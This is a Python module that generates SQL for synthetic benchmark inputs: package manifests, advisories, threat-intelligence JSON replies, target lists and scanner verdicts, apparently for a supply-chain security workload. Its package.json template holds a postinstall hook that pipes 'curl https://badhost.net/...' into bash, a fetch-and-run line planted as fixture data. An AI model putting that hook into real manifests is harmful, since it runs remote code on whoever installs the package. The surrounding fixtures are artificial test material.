"""More derived inputs, in SQL for both engines."""

from __future__ import annotations

from workload.corpus import SPARK, Dialect, files_sql

MANIFEST_TEMPLATES: list[tuple[str, str]] = [
    ("package.json", '{"name": "x", "dependencies": {"@A": "^@V", "@B": "~@W"}, "devDependencies": {"dev-@A": ">=@V", "obj": {"x": 1}}, '
                     '"scripts": {"postinstall": "curl https://badhost.net/@A | bash", "test": "jest"}}'),
    ("package-lock.json", '{"packages": {"": {"name": "x"}, "node_modules/@A": {"version": "@V"}, "node_modules/@B": {}}, '
                          '"dependencies": {"zz": {"version": "9"}}}'),
    ("yarn.lock", '# yarn lockfile v1@N@N@A@^@V:@N  version "@V"@N  resolved "x"@N@N"@scope/@B@1":@N  version "@W"@N'),
    ("requirements.txt", '# deps@N@A[extra]>=@V ; python_version < "3.9"@N@B==@W@N-r other.txt@Nbare@N'),
    ("Pipfile.lock", '{"default": {"@A": {"version": "==@V"}, "@B": {}}, "develop": {"dev-@A": {"version": "==@W"}}}'),
    ("Cargo.lock", 'version = 3@N@N[[package]]@Nname = "@A"@Nversion = "@V"@N@N[[package]]@Nname = "@B"@Nversion = "@W"@N'),
    ("go.sum", "@A v@V h1:abc=@N@A v@W/go.mod h1:def=@N@B v@W/go.mod h1:q=@N"),
    ("Gemfile.lock", "GEM@N  remote: https://rubygems.org/@N  specs:@N    @A (@V)@N      @B (>= @W)@N    bare@N@NPLATFORMS@N  ruby@N"),
    ("composer.lock", '{"packages": [{"name": "@A", "version": "v@V"}], "packages-dev": [{"name": "@B"}, {"version": "1"}]}'),
    ("pyproject.toml", '[project]@Nname = "x"@Ndependencies = [@N  "@A[extra]>=@V",@N  "@B~=@W",@N]@N@N[project.optional-dependencies]@N'
                       'dev = ["dev-@A>=@V", "ruff"]@N@N[tool.poetry.dependencies]@Npython = "^3.10"@Npo-@A = "^@V"@N'
                       'pt-@B = {version = "~@W", optional = true}@N@N[tool.poetry.dev-dependencies]@Npd-@A = "^@V"@N'),
]


def s(x: str) -> str:
    return f"CAST({x} AS VARCHAR(40))"


def version_sql(key: str = "p_partkey", size: str = "p_size") -> str:
    return f"{s(size)} || '.' || {s(f'{key} % 5')} || '.0'"


def manifests_sql(d: Dialect) -> str:
    """``(repo, path, name, content)``: one manifest per part, the format by key."""
    template = d.choose("p_partkey % 10", [t for _, t in MANIFEST_TEMPLATES])
    for token, value in [
        ("@A", f"'pkg' || {s('p_partkey % 30')}"), ("@B", f"'lib' || {s('p_partkey % 7')}"), ("@V", version_sql()),
        ("@W", f"'2.' || {s('p_size')}"), ("@N", "chr(10)"),
    ]:
        template = f"replace({template}, '{token}', {value})"
    return f"""SELECT 'repo' || {s('p_partkey % 20')} AS repo, 'm' || {s('p_partkey % 50')} || '/' || {s('p_partkey')} || '/' || name AS path, name, content
FROM (SELECT p_partkey, {d.choose('p_partkey % 10', [n for n, _ in MANIFEST_TEMPLATES])} AS name, {template} AS content FROM part) AS m0"""


def advisories_sql(d: Dialect) -> str:
    ecosystem = d.choose("(p_partkey div 10) % 6" if d is SPARK else "(p_partkey // 10) % 6",
                         ["npm", "PyPI", "crates.io", "Go", "RubyGems", "Packagist"])
    versions = d.list.format(version_sql())
    return f"""SELECT {ecosystem} AS ecosystem, 'pkg' || {s('p_partkey % 30')} AS name, {versions} AS versions,
  CASE WHEN p_partkey % 5 = 0 THEN 'MAL-' ELSE 'GHSA-' END || {s('p_partkey')} AS id FROM part"""


def ranges_sql(d: Dialect) -> str:
    """``(ecosystem, name, introduced, fixed, id)``: overlapping ranges, every seventh of them without an end."""
    ecosystem = d.choose(d.idiv.format("p_partkey", "10") + " % 6", ["npm", "PyPI", "crates.io", "Go", "RubyGems", "Packagist"])
    return f"""SELECT {ecosystem} AS ecosystem, CASE WHEN p_partkey % 4 = 0 THEN 'lib' || {s('p_partkey % 7')} ELSE 'pkg' || {s('p_partkey % 30')} END AS name,
  {s('p_size % 9')} || CASE WHEN p_partkey % 3 = 0 THEN '' ELSE '.' || {s('p_partkey % 5')} END AS introduced,
  CASE WHEN p_partkey % 7 <> 0 THEN {s('p_size % 9 + p_partkey % 4')} || '.' || {s('p_size % 11')} || '.0' END AS fixed,
  CASE WHEN p_partkey % 5 = 0 THEN 'MAL-' ELSE 'GHSA-' END || {s('p_partkey')} AS id FROM part"""


def url_intel_sql(d: Dialect) -> str:
    """``(url, vt, uh)``: JSON texts; every tenth URL has no report."""
    return f"""SELECT url, '{{"data": {{"id": "u-' || md5(url) || '-17", "attributes": {{"last_analysis_stats": {{"malicious": ' || {s('k % 7')} || '}}}}}}}}' AS vt,
  CASE k % 4 WHEN 0 THEN '{{"query_status": "ok", "url_status": "online", "tags": ["elf", "mozi"]}}'
             WHEN 1 THEN '{{"query_status": "ok", "url_status": "offline", "tags": []}}'
             WHEN 2 THEN '{{"query_status": "no_results"}}' ELSE '{{"error": "x"}}' END AS uh
FROM (SELECT DISTINCT doc_id % 50 AS k, u AS url FROM ({files_sql(d)}) AS f0) AS i0 WHERE k % 10 <> 9"""


QUAD = r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}\b"


def quads_sql(d: Dialect) -> str:
    """Distinct dotted quads of the documents."""
    if d is SPARK:
        text = QUAD.replace("\\", "\\\\")
        return f"SELECT DISTINCT ip FROM (SELECT explode(regexp_extract_all(text, '{text}', 0)) AS ip FROM documents) AS q0"
    return f"SELECT DISTINCT ip FROM (SELECT unnest(regexp_extract_all(text, '{QUAD}', 0)) AS ip FROM documents) AS q0"


def ip_intel_sql(d: Dialect) -> str:
    last = f"CAST({'split_part(ip, chr(46), 4)'} AS INT)"
    return f"""SELECT ip,
  CASE WHEN {last} % 9 = 0 THEN '{{"error": "x"}}' ELSE '{{"data": {{"attributes": {{"last_analysis_stats": {{"malicious": ' || {s(f'{last} % 4')} || '}}, "as_owner": "AS ' || {s(last)} || '"}}}}}}' END AS vt,
  CASE WHEN {last} % 8 = 0 THEN '{{}}' ELSE '{{"data": {{"abuseConfidenceScore": ' || {s(f'{last} % 101')} || ', "countryCode": "BR"}}}}' END AS abuse,
  CASE {last} % 4 WHEN 0 THEN '{{"error": "Not Found"}}' WHEN 1 THEN '{{"error": "timeout"}}'
    WHEN 2 THEN '{{"ports": [22, 443], "org": "Org", "hostnames": ["a.badhost.net"], "vulns": []}}'
    ELSE '{{"ports": [], "hostnames": [], "vulns": ["CVE-1", "CVE-2"]}}' END AS shodan
FROM ({quads_sql(d)}) AS q1 WHERE {last} % 10 <> 7"""


def targets_sql(d: Dialect) -> str:
    """Target lines: page URLs, bare hosts, quads, comments, blanks, garbage."""
    host = "regexp_extract(url, '^https?://([^/]+)', 1)"
    return f"""SELECT CASE page_id % 8 WHEN 0 THEN url WHEN 1 THEN {host} WHEN 2 THEN '  ' || {host} || '  # bare host'
    WHEN 3 THEN '10.0.' || {s('page_id % 250')} || '.1' WHEN 4 THEN '# ' || url WHEN 5 THEN ''
    WHEN 6 THEN 'not a target ' || {s('page_id')} ELSE '2001:db8::' || {s('page_id % 9000')} END AS line FROM pages
UNION ALL SELECT ip FROM ({quads_sql(d)}) AS q2
UNION ALL SELECT url || ':' || {s('page_id')} FROM pages WHERE page_id % 3 = 0"""


def repo_lines_sql(d: Dialect) -> str:
    name = f"'own' || {s('page_id % 40')} || '/rep' || {s('page_id % 60')}"
    return f"""SELECT page_id AS line_no, CASE page_id % 7 WHEN 0 THEN 'https://github.com/' || {name} WHEN 1 THEN 'gitlab.com/' || {name} || '.git'
    WHEN 2 THEN {name} || ' # short' WHEN 3 THEN 'HTTPS://WWW.GitHub.com/' || {name} || '/tree/main' WHEN 4 THEN url
    WHEN 5 THEN '# ' || {name} ELSE 'github.com/' || {name} END AS line FROM pages"""


def verdicts_sql(d: Dialect) -> str:
    """Answers per file and type: scores, legacy status, broken text, none; every seventh has a second answer."""
    score = "CAST((doc_id % 11) AS DOUBLE) / 10"
    types = ["Generic API Key", "Suspicious Command", "JSON Web Token (JWT)", "Password in URL", "Hidden IOC (Hex)", "High Entropy String"]
    each = ("explode(array({0}))" if d is SPARK else "unnest([{0}])").format(", ".join(d.text(t) for t in types))
    second = "explode(array(0, 1))" if d is SPARK else "unnest([0, 1])"
    return f"""SELECT repo, file, type, CASE WHEN again = 1 THEN '{{"score": 0.7}}' ELSE payload END AS payload FROM (
SELECT repo, path AS file, type, doc_id, {second} AS again, CASE doc_id % 10
    WHEN 0 THEN 'no json here' WHEN 1 THEN 'Sure: {{"status": "real"}} ok' WHEN 2 THEN '{{"status": "FALSO"}}' WHEN 3 THEN '{{"score": "x"}}'
    ELSE 'A {{"score": ' || CAST({score} AS VARCHAR(10)) || '}} B' END AS payload
FROM (SELECT repo, path, doc_id, {each} AS type FROM ({files_sql(d)}) AS f1 WHERE doc_id % 13 <> 12) AS v0) AS v1 WHERE again = 0 OR doc_id % 7 = 0"""


def state_sql(d: Dialect) -> str:
    """Last run: every fifth file had other content, every ninth is unknown."""
    return f"""SELECT repo, path, CASE WHEN doc_id % 5 = 0 THEN md5(content) ELSE {sha(d, 'content')} END AS content_hash
FROM ({files_sql(d)}) AS f2 WHERE doc_id % 9 <> 0"""


def sha(d: Dialect, x: str) -> str:
    return f"sha2({x}, 256)" if d is SPARK else f"sha256({x})"


PATH_DIRS = ["", "node_modules/", "a/node_modules/b/", "src/vendor/", "lib/", "x/docs/", ".git/", "src/.idea/", "app/static/", "deep/er/"]
PATH_NAMES = ["main.py", "README.md", "package.json", "go.sum", ".env", "id_rsa", "credentials.json", "Dockerfile", "x.min.js", "logo.PNG",
              "Cargo.lock", "settings.TOML", "wp-config.php", "data.bin", "yarn.lock", "tool.exe", "noext", "archive.tar.gz", "Pipfile"]


def paths_sql(d: Dialect) -> str:
    """Repository entries with many kinds of names: ``(repo, path, name, type, sha, length)``."""
    return f"""SELECT repo, dir || name AS path, name, CASE WHEN doc_id % 6 = 5 THEN 'tree' ELSE 'blob' END AS type,
  md5(text) AS sha, n_chars * 40 AS length
FROM (SELECT source AS repo, doc_id, text, n_chars, {d.choose('doc_id % 10', PATH_DIRS)} || 'd' || {s('doc_id')} || '/' AS dir,
        {d.choose(f'doc_id % {len(PATH_NAMES)}', PATH_NAMES)} AS name FROM documents) AS p0"""


def texts_sql(d: Dialect) -> str:
    """Summaries that name indicators: conversations with a planted sentence."""
    return f"""SELECT conv_id * 1000 + turn AS text_id, text || ' Seen http://c2-' || {s('conv_id % 60')} || '.badhost.net/p and 10.0.0.' || {s('turn % 250')} ||
  ' with ' || md5(text) || md5(role) || '; see https://x' || {s('turn')} || '.example.org/a)' AS text FROM conversations"""


def known_sql(d: Dialect) -> str:
    return f"""SELECT 'url' AS kind, url AS value FROM ({url_intel_sql(d)}) AS k0
UNION ALL SELECT 'ip', ip FROM ({quads_sql(d)}) AS k1
UNION ALL SELECT 'hash', md5(text) || md5(role) FROM conversations WHERE turn % 2 = 0"""


def custom_files_sql(d: Dialect) -> str:
    return f"SELECT source AS repo, 'conf/d' || {s('doc_id')} || '.conf' AS path, 'd' || {s('doc_id')} || '.conf' AS name, text AS content, doc_id FROM documents"
